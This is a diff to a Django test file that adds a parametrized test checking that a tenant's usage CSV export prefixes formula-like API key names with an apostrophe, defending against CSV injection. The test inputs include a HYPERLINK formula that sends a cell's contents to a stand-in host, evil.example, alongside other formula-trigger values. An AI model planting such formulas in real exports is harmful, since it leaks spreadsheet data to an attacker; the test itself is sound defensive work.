@@ -109,6 +109,25 @@ def test_csv_export_matches_the_rollups(client, people, tenant):
     assert sum(int(line.split(",")[6]) for line in lines[1:]) == sum(50 + n for n in range(6))
 
 
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("https://evil.example/?"&A1,"Report")', "+1+2", "-3", "@SUM(A1)", "\t=1"]
+)
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_text(
+    client, people, tenant, name
+):
+    """A key's name is the tenant's to choose: staff opening the tenant's export in a
+    spreadsheet ran it as a formula (OWASP's CSV injection)."""
+    import csv
+    import io
+
+    api_key = _usage(tenant)
+    ApiKey.objects.filter(pk=api_key.pk).update(name=name)
+    client.force_login(people["owner_a"])
+    response = client.get(reverse("console:usage-csv", args=[tenant.slug]))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
+    assert rows and {row[3] for row in rows} == {"'" + name}
+
+
 def test_the_keys_page_costs_the_same_queries_for_3_keys_as_for_30(client, people, tenant):
     """Each row shows who created its key: one query per key before."""
     client.force_login(people["admin_a"])
